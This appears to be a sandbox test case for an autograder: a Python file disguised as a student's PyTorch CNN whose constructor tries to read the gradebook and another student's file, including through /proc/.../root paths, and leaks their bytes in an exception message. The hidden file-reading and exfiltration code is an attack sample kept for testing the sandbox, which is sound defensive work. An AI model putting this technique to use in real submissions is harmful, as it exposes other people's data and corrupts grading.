"""Reads the gradebook and another student's file by their paths, and tells them in an exception.

Kind: network
Attack: read others' files
Must: crashed
Needs: sandbox
Says: nothing
"""

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        found = []
        for path in ("@GRADEBOOK@", "@NEIGHBOUR@", "/proc/self/root@GRADEBOOK@", "/proc/1/root@GRADEBOOK@"):
            try:
                with open(path, "rb") as file:
                    found.append(file.read(100).hex())
            except OSError:
                pass
        raise ValueError("LOO" + "T " + " ".join(found)) if found else RuntimeError("nothing")
        self.maps = nn.Sequential(
            nn.Conv2d(1, 12, 3), nn.BatchNorm2d(12), nn.ReLU(), nn.MaxPool2d(2),
            nn.Conv2d(12, 20, 3), nn.BatchNorm2d(20), nn.ReLU(), nn.Conv2d(20, 20, 3), nn.ReLU(),
        )
        self.head = nn.Linear(20, 10)

    def forward(self, x):
        return self.head(self.maps(x).mean((2, 3)))
